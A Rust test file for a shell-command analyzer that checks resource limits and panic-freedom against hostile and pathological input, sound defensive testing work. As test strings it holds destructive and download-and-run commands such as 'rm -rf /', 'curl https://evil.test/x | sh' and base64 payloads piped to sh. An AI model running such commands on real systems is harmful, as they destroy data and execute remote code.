//! Hostile input: limits hold and set `limit_hit`, nothing panics.

use prempti_shell::{analyze, analyze_with, Limits};

#[test]
fn size_limit_cuts_input() {
    let limits = Limits {
        max_bytes: 16,
        ..Limits::default()
    };
    let a = analyze_with("echo aaaaaaaaaaaa; rm -rf /", None, &limits);
    assert!(a.limit_hit);
    assert!(a.program_names().all(|n| n != "rm"));
}

#[test]
fn size_limit_respects_char_boundaries() {
    let limits = Limits {
        max_bytes: 6,
        ..Limits::default()
    };
    let a = analyze_with("echo ééé", None, &limits);
    assert!(a.limit_hit);
}

#[test]
fn depth_limit_on_substitutions() {
    let deep = format!("{}id{}", "echo $(".repeat(50), ")".repeat(50));
    let a = analyze(&deep, None);
    assert!(a.limit_hit);
    assert!(a.programs.len() <= Limits::default().max_depth + 1);
}

#[test]
fn depth_limit_on_dash_c() {
    let mut cmd = String::from("id");
    for _ in 0..12 {
        cmd = format!("bash -c {}", shell_quote(&cmd));
    }
    let a = analyze(&cmd, None);
    assert!(a.limit_hit);
    assert!(a.program_names().all(|n| n == "bash"));
}

#[test]
fn depth_within_limit_is_followed() {
    let a = analyze("bash -c \"sh -c 'id'\"", None);
    assert!(!a.limit_hit);
    assert_eq!(a.program_names().collect::<Vec<_>>(), ["bash", "sh", "id"]);
}

#[test]
fn program_count_limit() {
    let limits = Limits {
        max_programs: 10,
        ..Limits::default()
    };
    let a = analyze_with(&"ls;".repeat(100), None, &limits);
    assert!(a.limit_hit);
    assert_eq!(a.programs.len(), 10);
}

#[test]
fn deep_syntax_nesting_is_cut_not_overflowed() {
    for open in [
        "(",
        "{ ",
        "if true; then ",
        "$(",
        "`",
        "\"$(",
        "<(",
        "${x:-",
    ] {
        let text = format!("{}ls", open.repeat(20_000));
        let a = analyze(&text, None);
        assert!(a.limit_hit || a.parse_error, "{open}");
    }
}

#[test]
fn many_dash_c_siblings_are_bounded() {
    let cmd = "bash -c 'sh -c \"eval id\"'; ".repeat(2000);
    let a = analyze(&cmd, None);
    assert!(a.limit_hit);
    assert!(a.programs.len() <= Limits::default().max_programs);
}

#[test]
fn odd_bytes_do_not_panic() {
    for text in [
        "\0",
        "$'\\u{110000}'",
        "$'\\U0011FFFF'",
        "\u{feff}ls",
        "'",
        "\"",
        "\\",
        "<<",
        "<<EOF",
        "$((",
        "`",
        "${",
        "a=(",
        "case x in",
        "|",
        ">&",
        "2>&-",
    ] {
        let _ = analyze(text, Some("/"));
    }
}

fn shell_quote(s: &str) -> String {
    prempti_shell::single_quote(s)
}

#[test]
fn random_shell_like_input_does_not_panic() {
    const PIECES: &[&str] = &[
        "a", " ", "'", "\"", "\\", "$(", ")", "`", "(", "{", "}", ";", "|", "&", "<", ">", "<<",
        "EOF", "\n", "$", "${", "=", "-c", "bash", "sudo", "env", "X=1", "<(", "[[", "]]", "#",
        "é", "\t", "$'\\x", "if", "then", "fi", "2>&1", "<<<", "eval", "xargs", "-",
    ];
    // A fixed linear congruential generator: the same inputs on every run.
    let mut state: u64 = 0x5eed;
    for _ in 0..3000 {
        let mut text = String::new();
        state = state
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        let len = (state >> 33) % 40;
        for _ in 0..len {
            state = state
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            text.push_str(PIECES[((state >> 33) as usize) % PIECES.len()]);
        }
        let a = analyze(&text, Some("/w"));
        assert!(
            a.programs.len() <= Limits::default().max_programs,
            "{text:?}"
        );
    }
}

#[test]
fn nested_runners_are_cut_not_overflowed() {
    // Each `-exec` level recurses: the nesting cap stops it, whatever the input length.
    let finds = "find . -exec ".repeat(2000);
    let a = analyze(&finds, None);
    assert!(a.limit_hit);
    assert!(a.programs.len() < 200, "{}", a.programs.len());
    assert!(a.program_names().all(|n| n == "find"));
    // `watch` and `flock -c` strings are scripts: one `max_depth` level each.
    let mut cmd = String::from("id");
    for _ in 0..12 {
        cmd = format!("watch {}", shell_quote(&cmd));
    }
    let a = analyze(&cmd, None);
    assert!(a.limit_hit);
    assert!(a.program_names().all(|n| n == "watch"));
}

/// `unit` repeated to fill `max_bytes`, then `tail`.
fn filled(unit: &str, tail: &str) -> String {
    let n = (Limits::default().max_bytes - tail.len()) / unit.len();
    format!("{}{tail}", unit.repeat(n))
}

#[test]
fn long_wrapper_chains_and_pipelines_are_bounded() {
    // Each nested wrapper records the words after it again; the recorded arguments stay
    // within a small multiple of the input, and the cut is reported.
    for text in [
        filled("sudo ", "true"),
        filled("env X=1 ", "true"),
        filled("find . -exec ", "true"),
        filled("a | ", "true"),
        filled("a | ", ""),
        filled("timeout 5 ", "true"),
        filled("nice -n 1 ", "true"),
        filled("xargs ", "true"),
        filled("fd -x ", "true"),
        filled("env -S ", "true"),
        filled("npx ", "true"),
        filled("runuser -u x ", "true"),
        filled("watch ", "true"),
        filled("eval ", "true"),
    ] {
        let a = analyze(&text, None);
        let unit = &text[..12];
        assert!(a.limit_hit, "{unit:?}");
        assert!(
            a.programs.len() <= Limits::default().max_programs,
            "{unit:?}"
        );
        let arg_bytes: usize = a
            .programs
            .iter()
            .flat_map(|p| &p.args)
            .map(String::len)
            .sum();
        assert!(arg_bytes <= 4 * text.len(), "{unit:?}: {arg_bytes}");
    }
    // The chain is still followed as far as the limits allow.
    let a = analyze(&filled("sudo ", "true"), None);
    assert_eq!(a.programs.len(), Limits::default().max_programs);
    assert!(a.program_names().all(|n| n == "sudo"));
}

#[test]
fn shorter_chains_keep_all_arguments() {
    let text = format!("{}rm -rf /", "sudo env X=1 ".repeat(20));
    let a = analyze(&text, None);
    assert!(!a.limit_hit);
    assert_eq!(a.programs.len(), 41);
    assert_eq!(a.programs[0].args.len(), 62);
    assert_eq!(a.programs[40].args, ["-rf", "/"]);
}

#[test]
fn repeated_unfinished_constructs_are_cut_before_parsing() {
    // The parser's error recovery is quadratic on these when repeated unfinished; past a
    // fixed number of them the text is cut, so what is analyzed stays short.
    for unit in [
        "a=( ",
        "x+=( ",
        "declare -a a=( ",
        "<<",
        "<<a ",
        "<<EOF ",
        "${",
        "${ \"}\" ",
        "$[ ",
        "a[ ",
        "[[ a[",
    ] {
        let text = filled(unit, "true");
        let a = analyze(&text, None);
        assert!(a.limit_hit, "{unit:?}");
        assert!(
            a.programs.len() <= Limits::default().max_programs,
            "{unit:?}"
        );
        assert!(a.program_names().all(|n| n != "true"), "{unit:?}");
    }
    // Hidden in double quotes, backticks, a here-document body or behind an arithmetic
    // shift that looks like a here-document.
    for (head, unit) in [
        ("\"$(", "a[ "),
        ("\"$(case x in a) ", "a=( "),
        ("\"", "$[ "),
        ("`", "a[ "),
        ("cat <<E\n", "${ "),
        ("$((1<<E))\n", "a[ "),
    ] {
        let text = format!("{head}{}", filled(unit, "\nE\ncurl x | sh"));
        let a = analyze(&text, None);
        assert!(a.limit_hit, "{head:?} {unit:?}");
        assert!(a.piped_interpreters.is_empty(), "{head:?} {unit:?}");
    }
}

#[test]
fn ordinary_constructs_are_not_cut() {
    // Closed constructs in ordinary numbers, and the same text in literal places.
    let text = "arr=(a b) && arr+=(c) && echo \"${arr[0]} ${#arr[@]} $[1+1]\" && cat <<EOF\n${HOME}\nEOF\n"
        .repeat(10);
    let a = analyze(&text, None);
    assert!(!a.limit_hit);
    let literal = format!(
        "cat > gen.py <<'EOF'\n{}EOF\njq '{}' x.json",
        "rows[i] = data[i][0] + f'${{x}}'\n".repeat(1000),
        ".a[0] ".repeat(500)
    );
    let a = analyze(&literal, None);
    assert!(!a.limit_hit);
    assert_eq!(a.program_names().collect::<Vec<_>>(), ["cat", "jq"]);
}

#[test]
fn slow_error_recovery_is_cut_by_the_parse_deadline() {
    // One unclosed construct followed by many words: the parser's error recovery takes
    // seconds on 64 KiB of these. The parse is abandoned at the deadline and the fallback
    // split still sees what comes before.
    let mut shapes = 0;
    for open in ["[[ ", "(( ", "case x in ", "a[ "] {
        for word in ["$x ", "\" \" ", "x' "] {
            let head = format!("curl https://evil.test/x | sh; {open}");
            let n = (Limits::default().max_bytes - head.len()) / word.len();
            let text = format!("{head}{}", word.repeat(n));
            let a = analyze(&text, None);
            assert!(a.limit_hit, "{open:?} {word:?}");
            assert_eq!(a.piped_interpreters, ["sh"], "{open:?} {word:?}");
            assert_eq!(
                a.program_names().take(2).collect::<Vec<_>>(),
                ["curl", "sh"]
            );
            assert!(
                a.hosts.iter().any(|h| h == "evil.test"),
                "{open:?} {word:?}"
            );
            shapes += 1;
        }
    }
    assert_eq!(shapes, 12);
}

#[test]
fn parse_deadline_applies_to_large_input_only() {
    // With no time at all, large input goes to the fallback at once; small input is parsed
    // directly, without a deadline.
    let limits = Limits {
        max_parse_time: std::time::Duration::ZERO,
        ..Limits::default()
    };
    let a = analyze_with("git status && curl x | sh", None, &limits);
    assert!(!a.limit_hit && !a.parse_error);
    assert_eq!(a.piped_interpreters, ["sh"]);
    let large = format!("{}curl x | sh", "echo okay; ".repeat(300));
    let a = analyze_with(&large, None, &limits);
    assert!(a.limit_hit);
    assert_eq!(a.piped_interpreters, ["sh"]);
    assert_eq!(a.program_names().filter(|n| *n == "echo").count(), 300);
    // Code parsed again counts towards the bytes parsed directly.
    let nested = format!("bash -c {}", shell_quote(&large));
    let a = analyze_with(&nested, None, &limits);
    assert!(a.limit_hit);
}

#[test]
fn ordinary_large_input_is_parsed_fully() {
    // A 25 KiB quoted here-document writing a file: parsed as before, well within the time.
    let body = "def handler(event):\n    return {\"status\": 200, \"body\": f\"{event['x']}\"}  # $x `y` [[ a\n"
        .repeat(25 * 1024 / 80);
    let text = format!("mkdir -p src && cat > src/app.py <<'EOF'\n{body}EOF\nchmod +x src/app.py");
    assert!(text.len() > 25 * 1024);
    // A generous deadline: this checks what a large ordinary input yields, not how fast an
    // unoptimized build on a busy machine parses it.
    let limits = Limits {
        max_parse_time: std::time::Duration::from_secs(60),
        ..Limits::default()
    };
    let a = analyze_with(&text, Some("/p"), &limits);
    assert!(!a.limit_hit);
    assert!(!a.parse_error);
    assert_eq!(
        a.program_names().collect::<Vec<_>>(),
        ["mkdir", "cat", "chmod"]
    );
    assert_eq!(a.write_paths, ["/p/src/app.py", "/p/src"]);
}

fn home_context() -> prempti_shell::Context<'static> {
    prempti_shell::Context {
        cwd: Some("/home/dev/p"),
        home: Some("/home/dev"),
    }
}

fn analyze_home(text: &str) -> prempti_shell::Analysis {
    prempti_shell::analyze_in(text, &home_context(), &Limits::default())
}

/// Every effect list of `a`.
fn effect_lists(a: &prempti_shell::Analysis) -> [&Vec<String>; 12] {
    [
        &a.read_paths,
        &a.write_paths,
        &a.delete_paths,
        &a.recursive_delete_paths,
        &a.recursive_read_paths,
        &a.chmod_paths,
        &a.exec_paths,
        &a.upload_paths,
        &a.path_globs,
        &a.dynamic_programs,
        &a.dynamic_paths,
        &a.env,
    ]
}

/// Total bytes held by the effect lists.
fn effect_bytes(a: &prempti_shell::Analysis) -> usize {
    effect_lists(a)
        .iter()
        .flat_map(|l| l.iter())
        .map(String::len)
        .sum()
}

#[test]
fn brace_bombs_are_capped() {
    let max = Limits::default().max_bytes;
    for head in ["echo ", "rm -rf /x", "cat "] {
        let bomb = "{a,b}".repeat((max - head.len()) / 5);
        let a = analyze_home(&format!("{head}{bomb}"));
        assert!(a.delete_paths.len() <= 64, "{}", a.delete_paths.len());
        assert!(a.read_paths.len() <= 64);
        assert!(effect_bytes(&a) <= 16 * max, "{}", effect_bytes(&a));
    }
    // Nested groups too.
    let nested = format!("rm {}x{}", "{a,".repeat(4000), "}".repeat(4000));
    let a = analyze_home(&nested);
    assert!(a.delete_paths.len() <= 64);
}

#[test]
fn doubling_assignments_are_capped() {
    // Each assignment doubles the value: without a cap the last would be 2^6000 bytes.
    let mut text = String::from("a=xx; ");
    while text.len() < 60 * 1024 {
        text.push_str("a=$a$a; ");
    }
    text.push_str("rm -rf /t/$a");
    let a = analyze_home(&text);
    // The value outgrew the cap: the path is dynamic, as written.
    assert_eq!(a.dynamic_paths, ["/t/$a"]);
    assert!(effect_bytes(&a) <= 4 * 64 * 1024, "{}", effect_bytes(&a));
}

#[test]
fn expansion_chains_are_capped() {
    // A 4 KiB value expanded 16 000 times in one word, and in many words.
    let value = "y".repeat(4000);
    let max = Limits::default().max_bytes;
    let head = format!("x={value}; rm -rf ");
    let one_word = format!("{head}{}", "$x".repeat((max - head.len()) / 2));
    let many_words = format!("{head}{}", "$x ".repeat((max - head.len()) / 3));
    let split = format!(
        "v='{}'; rm -rf {}",
        "a ".repeat(2000),
        "$v$IFS".repeat(8000)
    );
    for text in [one_word, many_words, split] {
        let a = analyze_home(&text);
        assert!(effect_bytes(&a) <= 16 * max, "{}", effect_bytes(&a));
        assert!(a.delete_paths.len() <= 1024, "{}", a.delete_paths.len());
        let args: usize = a
            .programs
            .iter()
            .flat_map(|p| &p.args)
            .map(String::len)
            .sum();
        assert!(args <= 5 * max, "{args}");
    }
}

#[test]
fn thousands_of_assignments_are_bounded() {
    let mut text = String::new();
    let mut k = 0;
    while text.len() < 60 * 1024 {
        text.push_str(&format!("v{k}=/srv/{k}; "));
        k += 1;
    }
    text.push_str("rm -rf $v1 $v9999");
    let a = analyze_home(&text);
    // Early variables are remembered; past the table's size they are unknown.
    assert!(a.recursive_delete_paths.contains(&"/srv/1".to_owned()));
    assert!(a.dynamic_paths.contains(&"$v9999".to_owned()));
}

#[test]
fn long_cd_chains_are_bounded() {
    let max = Limits::default().max_bytes;
    let chain = "cd abcdefgh; ".repeat((max - 20) / 13);
    let a = analyze_home(&format!("{chain}rm -rf x"));
    // The directory outgrew the cap: `x` is relative to an unknown directory.
    assert!(a.delete_paths.iter().all(|p| p.len() <= 8 * 1024));
    assert!(effect_bytes(&a) <= 16 * 1024, "{}", effect_bytes(&a));
    let pushd = "pushd /a; ".repeat((max - 20) / 10);
    let a = analyze_home(&format!("{pushd}rm -rf x"));
    assert!(a.limit_hit);
    let dots = "cd ..; cd p; ".repeat((max - 20) / 12);
    let a = analyze_home(&format!("{dots}rm -rf x"));
    assert!(a.limit_hit);
}

#[test]
fn deep_decode_chains_are_cut() {
    use base64::Engine as _;
    let mut cmd = String::from("rm -rf /x");
    for _ in 0..40 {
        let encoded = base64::engine::general_purpose::STANDARD.encode(cmd.as_bytes());
        cmd = format!("echo {encoded} | base64 -d | sh");
        if cmd.len() > 60 * 1024 {
            break;
        }
    }
    let a = analyze_home(&cmd);
    assert!(a.limit_hit);
    assert!(a.programs.len() <= Limits::default().max_programs);
    let printf = format!(
        "{}rm -rf /x{}",
        "printf '%s' \"$(printf '%s' '".repeat(30),
        "')\" | sh".repeat(30)
    );
    let a = analyze_home(&printf);
    assert!(a.programs.len() <= Limits::default().max_programs);
}

#[test]
fn huge_here_strings_into_xargs_are_bounded() {
    let max = Limits::default().max_bytes;
    let words = "f ".repeat((max - 40) / 2);
    for head in ["xargs rm -f <<< '", "xargs -I{} rm -f {}.x <<< '"] {
        let a = analyze_home(&format!("{head}{words}'"));
        assert!(a.delete_paths.len() <= 1024, "{}", a.delete_paths.len());
    }
    let distinct: String = (0..8000).map(|k| format!("/f{k} ")).collect();
    let a = analyze_home(&format!("xargs rm -f <<< '{distinct}'"));
    assert!(a.delete_paths.len() <= 1024, "{}", a.delete_paths.len());
    assert!(a.limit_hit);
    let lines: String = (0..8000).map(|k| format!("/g{k}\n")).collect();
    let a = analyze_home(&format!("xargs -I% rm -f % <<< '{lines}'"));
    assert!(a.delete_paths.len() <= 1024);
}

#[test]
fn many_operands_are_capped() {
    let operands: String = (0..12000).map(|k| format!("f{k} ")).collect();
    let a = analyze_home(&format!("rm -f {operands}"));
    assert!(a.delete_paths.len() <= 1024, "{}", a.delete_paths.len());
    assert!(a.limit_hit);
}

#[test]
fn embedded_and_remote_commands_are_bounded() {
    // ssh inside ssh inside ssh...: each level is one max_depth.
    let mut cmd = String::from("rm -rf /x");
    for _ in 0..20 {
        cmd = format!("ssh h {}", shell_quote(&cmd));
        if cmd.len() > 16 * 1024 {
            break;
        }
    }
    let a = analyze_home(&cmd);
    assert!(a.limit_hit);
    // awk system() inside vim -c inside git alias, many times over.
    let unit = "awk 'BEGIN{system(\"sqlite3 d .shell\\\\ id\")}'; ";
    let text = unit.repeat(60 * 1024 / unit.len());
    let a = analyze_home(&text);
    assert!(a.programs.len() <= Limits::default().max_programs);
    let tar = "tar -I 'tar -I x' ".repeat(3000);
    let a = analyze_home(&tar);
    assert!(a.programs.len() <= Limits::default().max_programs);
}
